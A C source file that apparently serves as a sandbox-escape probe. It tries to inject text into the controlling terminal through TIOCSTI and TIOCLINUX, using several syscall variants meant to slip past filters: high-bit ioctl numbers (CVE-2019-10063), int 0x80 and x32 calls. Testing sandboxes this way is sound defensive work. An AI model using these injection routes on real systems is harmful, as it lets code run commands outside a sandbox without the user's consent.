/* SPDX-License-Identifier: MIT */
/* typing WAY TEXT: types TEXT into the terminal's input, so that the shell outside runs it. WAY is how the kernel is asked:
 *   plain    ioctl(0, TIOCSTI)                      devtty   the same, on /dev/tty
 *   high     with bits set above the 32 that the kernel looks at (CVE-2019-10063)
 *   i386     by int 0x80, with a 32-bit program's number       x32   by the numbers of the x32 ABI
 *   i386high int 0x80 with high bits in the registers, which the kernel does not see
 *   console, consolehigh, console32   TIOCLINUX: pastes the console's selection; on a pseudo-terminal ENOTTY is what
 *            the driver answers, so that error says that the request has reached it */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef TIOCLINUX
#    define TIOCLINUX 0x541C
#endif

static int tty;

#ifdef __x86_64__
static long ioctl32(unsigned long request, const char *text) {
    static char *low;
    long r, high = request > 0xffffffffu ? 0x7700000000 : 0;
    if (!low)
        low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    low[0] = text[0];
    __asm__ volatile("int $0x80"
                     : "=a"(r)
                     : "a"(54L | high), "b"((long)tty), "c"(request), "d"(low)
                     : "memory", "r8", "r9", "r10", "r11");
    errno = r < 0 ? (int)-r : 0;
    return r < 0 ? -1 : r;
}
#else
static long ioctl32(unsigned long request, const char *text) {
    (void)request, (void)text;
    errno = ENOSYS;
    return unable("not on this architecture");
}
#endif

static long type(const char *way, const char *c) {
    static const char paste[2] = {2};
    if (!strcmp(way, "plain") || !strcmp(way, "devtty"))
        return syscall(SYS_ioctl, (long)tty, (unsigned long)TIOCSTI, c);
    if (!strcmp(way, "high"))
        return syscall(SYS_ioctl, (long)tty, TIOCSTI | 0xdeadbeef00000000, c);
    if (!strcmp(way, "i386"))
        return ioctl32(TIOCSTI, c);
    if (!strcmp(way, "i386high"))
        return ioctl32(TIOCSTI | 0xdeadbeef00000000, c);
    if (!strcmp(way, "x32"))
        return syscall(0x40000000 + 514, (long)tty, (unsigned long)TIOCSTI, c);
    if (!strcmp(way, "console"))
        return syscall(SYS_ioctl, (long)tty, (unsigned long)TIOCLINUX, paste);
    if (!strcmp(way, "consolehigh"))
        return syscall(SYS_ioctl, (long)tty, TIOCLINUX | 0x100000000, paste);
    if (!strcmp(way, "console32"))
        return ioctl32(TIOCLINUX, paste);
    errno = EINVAL;
    return unable(way);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        errno = EINVAL;
        return unable("usage");
    }
    tty = strcmp(argv[1], "devtty") ? 0 : open("/dev/tty", O_RDWR);
    if (tty < 0 || !isatty(tty))
        unable("no terminal");
    for (const char *c = argv[2]; *c; c++)
        if (type(argv[1], c) < 0)
            return refused(argv[1]);
    if (type(argv[1], "\n") < 0)
        return refused(argv[1]);
    return broken(argv[1]);
}
